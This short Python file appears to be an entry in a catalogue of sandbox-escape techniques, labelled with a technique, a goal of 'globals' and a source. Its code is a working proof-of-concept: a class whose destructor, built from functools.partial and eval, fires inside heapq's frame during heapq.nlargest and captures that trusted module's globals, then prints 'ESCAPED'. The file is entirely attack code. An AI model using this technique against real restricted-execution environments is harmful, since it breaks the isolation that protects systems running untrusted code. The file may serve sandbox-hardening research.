# technique: trusted code drops the last reference: the destructor runs below its frame
# goal: globals
# source: own analysis: the default namespace of globals, below a trusted frame
import functools
import heapq
kept = []


class Bomb:
    __del__ = staticmethod(functools.partial(next, map(kept.append, map(eval, ['globals()'])), None))


ranks = iter(range(9))
heapq.nlargest(2, (Bomb() for _ in range(9)), key=lambda bomb: next(ranks))
if kept[0]['__name__'] == 'heapq':
    print('ESCAPED globals of heapq')
